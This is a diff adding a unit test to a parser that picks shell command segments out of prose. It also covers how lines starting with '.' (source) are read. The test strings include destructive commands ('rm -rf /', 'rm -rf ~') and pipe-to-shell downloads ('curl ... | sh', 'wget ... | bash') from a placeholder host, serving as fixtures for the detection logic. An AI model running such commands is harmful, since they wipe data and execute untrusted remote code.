@@ -90,4 +90,11 @@ describe("commands quoted in prose", () => {
     expect(segments.map((s) => s.text)).toEqual(["rm is fine here", "rm -rf / on prod, and later curl -s http://x/i | sh", "wget -qO- http://x/a | bash"]);
     for (const s of segments) expect(text.slice(s.offset, s.offset + s.text.length)).toBe(s.text);
   });
+
+  it("reads a line that starts with `.` as a command only when a file follows it", () => {
+    expect(commandSegments(". ./env.sh && rm -rf ~").map((s) => s.whole)).toEqual([true]);
+    expect(commandSegments("Setup:\n. ~/.bashrc\nmake").map((s) => s.text)).toContain(". ~/.bashrc");
+    expect(commandSegments(". . . . . the end")).toEqual([]);
+    expect(commandSegments(". Then the cache was cleared.")).toEqual([]);
+  });
 });
